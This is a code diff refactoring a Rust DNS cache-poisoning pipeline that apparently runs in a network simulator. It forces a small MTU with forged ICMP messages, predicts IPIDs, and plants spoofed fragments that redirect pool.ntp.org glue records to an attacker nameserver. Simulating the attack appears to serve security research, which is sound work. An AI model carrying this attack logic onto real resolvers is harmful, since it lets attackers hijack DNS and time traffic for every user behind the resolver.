@@ -31,6 +31,7 @@ use dns::auth::DNS_PORT;
 use dns::message::{Message, MessageView};
 use dns::name::Name;
 use dns::record::RecordType;
+use dns::zone::pool_domain;
 use netsim::prelude::*;
 use rand::RngExt;
 
@@ -39,7 +40,14 @@ use crate::icmp_force::{forge_frag_needed, FORCED_MTU};
 use crate::ipid::IpidPredictor;
 use crate::wire_walk::RecordSpan;
 
-/// Configuration of the poisoning pipeline.
+/// Configuration of the poisoning pipeline: the addresses of one attack,
+/// its IPID window, and whether the victim resolver answers the attacker.
+///
+/// What every attack shares is a constant: the attacker's network
+/// ([`MALICIOUS_NET`]), the MTU forced via ICMP ([`FORCED_MTU`]), the step
+/// periods ([`ICMP_REFRESH`], [`PROBE_INTERVAL`], [`PLANT_INTERVAL`],
+/// [`CONTROL_INTERVAL`]) and the domain under attack
+/// ([`dns::zone::POOL_DOMAIN`]).
 #[derive(Debug, Clone)]
 pub struct PoisonConfig {
     /// The victim resolver.
@@ -48,27 +56,25 @@ pub struct PoisonConfig {
     pub ns_targets: Vec<Ipv4Addr>,
     /// The attacker's nameserver address (glue records are rewritten to it).
     pub attacker_ns: Ipv4Addr,
-    /// Prefix identifying attacker-controlled addresses (for success
-    /// detection via snooping): `(network, prefix_len)`.
-    pub malicious_net: (Ipv4Addr, u8),
-    /// MTU forced via ICMP.
-    pub forced_mtu: u16,
     /// Width of the planted IPID window.
     pub ipid_window: u16,
-    /// Fragment re-planting period (< defrag timeout).
-    pub plant_interval: SimDuration,
-    /// NS probing period.
-    pub probe_interval: SimDuration,
-    /// ICMP refresh period (< PMTU cache lifetime).
-    pub icmp_refresh: SimDuration,
-    /// RD=0 success-check period against an open resolver (None: closed).
-    pub check_interval: Option<SimDuration>,
-    /// RD=1 query-trigger period against an open resolver (None: the
-    /// victim's own queries are the only trigger).
-    pub trigger_interval: Option<SimDuration>,
-    /// The domain under attack.
-    pub pool_domain: Name,
+    /// Whether the resolver is open to the attacker: RD=1 trigger queries
+    /// and RD=0 success checks every [`CONTROL_INTERVAL`]. A closed
+    /// resolver resolves only on the victim's own queries.
+    pub open: bool,
 }
+
+/// Prefix of the attacker-controlled addresses, `(network, prefix_len)`:
+/// an RD=0 answer entirely inside it confirms full poisoning.
+pub const MALICIOUS_NET: (Ipv4Addr, u8) = (Ipv4Addr::new(66, 66, 0, 0), 16);
+/// ICMP refresh period (under the 10-minute PMTU cache lifetime).
+pub const ICMP_REFRESH: SimDuration = SimDuration::from_secs(240);
+/// Nameserver probing period.
+pub const PROBE_INTERVAL: SimDuration = SimDuration::from_secs(20);
+/// Fragment re-planting period (under the 30 s Linux reassembly timeout).
+pub const PLANT_INTERVAL: SimDuration = SimDuration::from_secs(25);
+/// Period of the RD=0 checks and RD=1 triggers against an open resolver.
+pub const CONTROL_INTERVAL: SimDuration = SimDuration::from_secs(30);
 
 impl PoisonConfig {
     /// A standard configuration against an open resolver.
@@ -77,20 +83,7 @@ impl PoisonConfig {
         ns_targets: Vec<Ipv4Addr>,
         attacker_ns: Ipv4Addr,
     ) -> Self {
-        PoisonConfig {
-            resolver,
-            ns_targets,
-            attacker_ns,
-            malicious_net: (Ipv4Addr::new(66, 66, 0, 0), 16),
-            forced_mtu: FORCED_MTU,
-            ipid_window: 16,
-            plant_interval: SimDuration::from_secs(25),
-            probe_interval: SimDuration::from_secs(20),
-            icmp_refresh: SimDuration::from_secs(240),
-            check_interval: Some(SimDuration::from_secs(30)),
-            trigger_interval: Some(SimDuration::from_secs(30)),
-            pool_domain: "pool.ntp.org".parse().expect("static name"),
-        }
+        PoisonConfig { resolver, ns_targets, attacker_ns, ipid_window: 16, open: true }
     }
 
     /// Same, but without trigger/check (closed resolver: only the victim's
@@ -101,18 +94,17 @@ impl PoisonConfig {
         attacker_ns: Ipv4Addr,
     ) -> Self {
         PoisonConfig {
-            check_interval: None,
-            trigger_interval: None,
+            open: false,
             ..PoisonConfig::open_resolver(resolver, ns_targets, attacker_ns)
         }
     }
+}
 
-    /// True if `addr` is in the attacker's network.
-    pub fn is_malicious(&self, addr: Ipv4Addr) -> bool {
-        let (net, len) = self.malicious_net;
-        let mask = if len == 0 { 0 } else { u32::MAX << (32 - u32::from(len)) };
-        (u32::from(addr) & mask) == (u32::from(net) & mask)
-    }
+/// True if `addr` is in the attacker's network ([`MALICIOUS_NET`]).
+fn is_malicious(addr: Ipv4Addr) -> bool {
+    let (net, len) = MALICIOUS_NET;
+    let mask = u32::MAX << (32 - u32::from(len));
+    (u32::from(addr) & mask) == (u32::from(net) & mask)
 }
 
 /// Counters exposed by the pipeline.
@@ -158,8 +150,7 @@ pub struct PoisonPipeline {
     last_icmp: Option<SimTime>,
     last_probe: Option<SimTime>,
     last_plant: Option<SimTime>,
-    last_check: Option<SimTime>,
-    last_trigger: Option<SimTime>,
+    last_control: Option<SimTime>,
     glue_poisoned_at: Option<SimTime>,
     fully_poisoned_at: Option<SimTime>,
     /// Counters.
@@ -187,8 +178,7 @@ impl PoisonPipeline {
             last_icmp: None,
             last_probe: None,
             last_plant: None,
-            last_check: None,
-            last_trigger: None,
+            last_control: None,
             glue_poisoned_at: None,
             fully_poisoned_at: None,
             stats: PoisonStats::default(),
@@ -225,38 +215,35 @@ impl PoisonPipeline {
     /// so call this at any period no longer than the shortest of them.
     pub fn tick(&mut self, ctx: &mut Ctx<'_>) {
         let now = ctx.now();
-        if due(now, self.last_icmp, self.config.icmp_refresh) {
+        if due(now, self.last_icmp, ICMP_REFRESH) {
             self.send_icmps(ctx);
         }
-        if due(now, self.last_probe, self.config.probe_interval) {
+        if due(now, self.last_probe, PROBE_INTERVAL) {
             self.send_probes(ctx);
         }
-        if !self.fully_poisoned() && due(now, self.last_plant, self.config.plant_interval) {
+        if !self.fully_poisoned() && due(now, self.last_plant, PLANT_INTERVAL) {
             self.plant(ctx);
         }
-        if let Some(interval) = self.config.check_interval {
-            if !self.fully_poisoned() && due(now, self.last_check, interval) {
-                self.send_checks(ctx);
-            }
-        }
-        // Trigger queries serve double duty: before glue poisoning each
-        // resolver re-resolution (every A-TTL expiry) is a fresh poisoning
-        // opportunity; after it, the next resolution fetches the malicious
-        // A set from the attacker's nameserver.
-        if let Some(interval) = self.config.trigger_interval {
-            if !self.fully_poisoned() && due(now, self.last_trigger, interval) {
-                self.send_trigger(ctx);
-            }
+        if self.config.open
+            && !self.fully_poisoned()
+            && due(now, self.last_control, CONTROL_INTERVAL)
+        {
+            self.last_control = Some(now);
+            self.send_checks(ctx);
+            // Trigger queries serve double duty: before glue poisoning each
+            // resolver re-resolution (every A-TTL expiry) is a fresh
+            // poisoning opportunity; after it, the next resolution fetches
+            // the malicious A set from the attacker's nameserver.
+            self.send_trigger(ctx);
         }
     }
 
     fn send_icmps(&mut self, ctx: &mut Ctx<'_>) {
         self.last_icmp = Some(ctx.now());
         let resolver = self.config.resolver;
-        let mtu = self.config.forced_mtu;
         for &ns in &self.config.ns_targets {
             self.stats.icmps_sent += 1;
-            ctx.send_icmp(ns, forge_frag_needed(ns, resolver, mtu));
+            ctx.send_icmp(ns, forge_frag_needed(ns, resolver, FORCED_MTU));
         }
     }
 
@@ -264,7 +251,7 @@ impl PoisonPipeline {
     /// same probes go out, but nothing waits for their replies.
     fn send_probes(&mut self, ctx: &mut Ctx<'_>) {
         self.last_probe = Some(ctx.now());
-        let query = Message::query(0, self.config.pool_domain.clone(), RecordType::A, false);
+        let query = Message::query(0, pool_domain(), RecordType::A, false);
         let query = query.encode();
         for &ns in &self.config.ns_targets {
             let txid: u16 = ctx.rng().random();
@@ -282,8 +269,8 @@ impl PoisonPipeline {
         self.last_plant = Some(ctx.now());
         let resolver = self.config.resolver;
         let window = self.config.ipid_window;
-        let horizon = ctx.now() + self.config.plant_interval;
-        let (mtu, attacker_ns) = (self.config.forced_mtu, self.config.attacker_ns);
+        let horizon = ctx.now() + PLANT_INTERVAL;
+        let attacker_ns = self.config.attacker_ns;
         let mut to_send = Vec::new();
         for (&ns, state) in &mut self.targets {
             let Some(reply) = &state.reply else { continue };
@@ -292,7 +279,9 @@ impl PoisonPipeline {
             if ipids.is_empty() {
                 continue;
             }
-            let Ok(tail) = SpanTail::forge(reply, &state.spans, mtu, attacker_ns) else { continue };
+            let Ok(tail) = SpanTail::forge(reply, &state.spans, FORCED_MTU, attacker_ns) else {
+                continue;
+            };
             to_send.extend(ipids.iter().map(|&ipid| tail.fragment(ns, resolver, ipid)));
         }
         for pkt in to_send {
@@ -302,7 +291,6 @@ impl PoisonPipeline {
     }
 
     fn send_checks(&mut self, ctx: &mut Ctx<'_>) {
-        self.last_check = Some(ctx.now());
         let send = |pipeline: &mut Self, ctx: &mut Ctx<'_>, name: Name, kind: ControlQuery| {
             let txid: u16 = ctx.rng().random();
             // RD=0: answer from cache only — never perturbs the resolver.
@@ -318,14 +306,12 @@ impl PoisonPipeline {
                 send(self, ctx, name, ControlQuery::CheckGlue);
             }
         }
-        let pool = self.config.pool_domain.clone();
-        send(self, ctx, pool, ControlQuery::CheckPool);
+        send(self, ctx, pool_domain(), ControlQuery::CheckPool);
     }
 
     fn send_trigger(&mut self, ctx: &mut Ctx<'_>) {
-        self.last_trigger = Some(ctx.now());
         let txid: u16 = ctx.rng().random();
-        let query = Message::query(txid, self.config.pool_domain.clone(), RecordType::A, true);
+        let query = Message::query(txid, pool_domain(), RecordType::A, true);
         if let Ok(wire) = query.encode() {
             self.stats.triggers_sent += 1;
             self.control_pending.insert(txid, ControlQuery::Trigger);
@@ -358,8 +344,8 @@ impl PoisonPipeline {
             state.reply = Some(payload.clone());
             std::mem::swap(&mut state.spans, &mut self.scratch_spans);
             if self.check_name.is_none() {
-                let (mtu, attacker_ns) = (self.config.forced_mtu, self.config.attacker_ns);
-                let forged = SpanTail::forge(payload, &state.spans, mtu, attacker_ns);
+                let forged =
+                    SpanTail::forge(payload, &state.spans, FORCED_MTU, self.config.attacker_ns);
                 let first = forged.ok().and_then(|t| t.poisoned().next());
                 self.check_name = first.and_then(|span| span.name(payload).ok());
             }
@@ -402,7 +388,7 @@ impl PoisonPipeline {
                         }
                     }
                     ControlQuery::CheckPool | ControlQuery::Trigger => {
-                        if !addrs.is_empty() && addrs.iter().all(|&a| self.config.is_malicious(a)) {
+                        if !addrs.is_empty() && addrs.iter().all(|&a| is_malicious(a)) {
                             self.confirm(ctx.now(), true);
                         }
                     }
@@ -435,14 +421,9 @@ mod tests {
 
     #[test]
     fn malicious_net_matching() {
-        let config = PoisonConfig::open_resolver(
-            "10.0.0.53".parse().unwrap(),
-            vec!["198.51.100.1".parse().unwrap()],
-            "66.66.66.66".parse().unwrap(),
-        );
-        assert!(config.is_malicious("66.66.1.2".parse().unwrap()));
-        assert!(!config.is_malicious("66.67.1.2".parse().unwrap()));
-        assert!(!config.is_malicious("192.0.2.1".parse().unwrap()));
+        assert!(is_malicious("66.66.1.2".parse().unwrap()));
+        assert!(!is_malicious("66.67.1.2".parse().unwrap()));
+        assert!(!is_malicious("192.0.2.1".parse().unwrap()));
     }
 
     /// A reply that fails the message checks changes nothing: the earlier
